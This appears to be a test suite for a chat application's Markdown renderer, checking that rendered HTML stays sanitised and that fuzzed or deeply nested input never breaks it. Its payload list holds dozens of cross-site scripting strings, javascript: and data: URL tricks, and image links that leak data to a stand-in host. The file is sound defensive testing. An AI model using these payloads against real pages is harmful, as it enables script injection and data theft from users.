"""The Markdown renderer under attack: only what is allowed comes out, and no text makes it fail."""

import logging
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chat.rendering import IncrementalRenderer, render
from tests.chat.rendered_html import inspected

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)\n>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --><b onclick=alert(1)>x</b>",
    "<?php echo 1 ?> <!DOCTYPE html> <![CDATA[<script>alert(1)</script>]]>",
    "<div style='background:url(//evil.test)'>x</div>",
    "<style>@import '//evil.test'</style>",
    "<form action=//evil.test><input><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=//evil.test><meta http-equiv=refresh content='0;url=//evil.test'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<button type=button class=code-copy id=x>Copy</button>",
    "<pre data-place='0'></pre> <figure class=code>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;&#97;&#118;&#97;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](about:blank) [x](blob:https://a.test/1)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,AAAA)",
    "[x](//evil.test) [x](/admin/logout) [x](?delete=1) [x](#top) [x](\\\\evil.test)",
    "[x](https:evil.test) [x](https:/evil.test) [x](https:///evil.test) [x](https:\\\\evil.test)",
    "[x](https://bank.test@evil.test/) [x](https://bank.test:pw@evil.test/)",
    "[x](https://evil.test\\@bank.test/) [x](https://[evil) [x](https://a.test:99999999/)",
    '[x](https://a.test "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.test '<script>alert(1)</script>')",
    "[x](https://a.test/\"onmouseover='alert(1)')",
    "[x](https://a.test/?<script>alert(1)</script>)",
    "[x](mailto:a@b.test?subject=<script>) [x](mailto:javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: <data:text/html,<script>alert(1)</script>>\n\n[x][x] ![x][x]",
    "![x](https://evil.test/?q=secret)",
    "![x][leak]\n\n[leak]: https://evil.test/?q=secret",
    "[leak]: https://evil.test/?q=secret\n\n![x][leak] ![leak][] ![leak]",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://evil.test/i.png)',
    '![x](https://evil.test/i.png"onerror="alert(1))',
    "![<img src=x onerror=alert(1)>](x)",
    "[![a](https://evil.test/1)](https://evil.test/2)",
    "[![a](https://evil.test/1)](javascript:alert(1))",
    "![[x](javascript:alert(1))](https://evil.test)",
    "[a [b](javascript:alert(1)) c](https://evil.test)",
    "[<https://evil.test/1> x](https://evil.test/2) [<https://evil.test/1>](javascript:alert(1))",
    "[<javascript:alert(1)>](https://evil.test) [![<https://a.test>](b)<https://a.test>](c)",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "<https://evil.test/<script>alert(1)</script>>",
    '<https://evil.test/"onclick=alert(1)>',
    '<a@b.test"onclick=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "`<script>alert(1)</script>` ``<img src=x onerror=alert(1)>``",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onload="alert(1)\nx\n```',
    "```&quot;&gt;&lt;script&gt;\nx\n```",
    "~~~<img/src=x/onerror=alert(1)>\n<script>alert(1)</script>\n~~~",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "- ```'><svg/onload=alert(1)>\n  </pre></figure><script>alert(1)</script>\n",
    "    </code></pre><script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|:-|-:|\n| ![x](//evil) | <b> |",
    '| a |\n|:-" onclick=alert(1):|\n| b |',
    "# <script>alert(1)</script>\n\n<script>\n===",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "$<script>alert(1)</script>$ \\(<img src=x onerror=alert(1)>\\) $$</p><script>$$",
    "*<script>*alert(1)*</script>* ~~<img src=x onerror=alert(1)>~~",
    "1. <svg onload=alert(1)>\n99999999999. x",
    "\x00<script>\x00alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "[x](java\x00script:alert(1))",
    "\ud800<script>alert(1)</script>\udfff",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_but_what_is_allowed_comes_out(attack: str) -> None:
    inspected(render(attack))
    inspected(render(f"- a\n\n  > {attack}\n\n| a |\n|---|\n| {attack} |\n\n[{attack}]({attack})"))
    for cut in range(0, len(attack), 3):
        renderer = IncrementalRenderer()
        renderer.feed(attack[:cut])
        update = renderer.update()
        inspected(update.tail if update else "")


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(ATTACKS) | st.sampled_from(["- a", "> b", "```", "| c |", "|---|", ""]),
        min_size=2,
        max_size=5,
    ),
    st.sampled_from(" \n|"),
)
def test_attacks_put_together_stay_harmless(attacks: list[str], between: str) -> None:
    links = inspected(render(between.join(attacks))).links
    assert not any("@" in urlsplit(link).netloc for link in links)


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters() | st.sampled_from("\n\n `*[](){}<>!#|-~>\"'\\$&\r\t\x00\ud800")))
def test_no_text_makes_it_fail(text: str) -> None:
    inspected(render(text))


@pytest.mark.parametrize(
    "mark", [">", "[", "![", "*", "_", "`", "- ", "> - ", "(", "~", "\\(", "|-"]
)
def test_ten_thousand_marks_are_only_text(mark: str) -> None:
    inspected(render(mark * 10_000 + "deep"))


def test_what_is_nested_too_deeply_is_shown_as_it_was_written() -> None:
    assert "the deepest" in render(">" * 100 + " the deepest")
    assert "the deepest" in render("".join("  " * n + "- x\n" for n in range(40)) + "the deepest")


def test_a_defect_of_the_parser_costs_no_page(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def fail(*_: object) -> None:
        raise RuntimeError

    monkeypatch.setattr(MarkdownIt, "parse", fail)
    with caplog.at_level(logging.ERROR):
        assert render("a <b> secret") == '<p dir="auto">a &lt;b&gt; secret</p>'
    assert "secret" not in caplog.records[0].getMessage()


def test_a_table_is_never_filled_up_to_more_cells_than_its_text_could_hold() -> None:
    html = render("|a" * 200 + "\n" + "|-" * 200 + "\n" + "x\n" * 5000)
    assert len(html) < 100_000
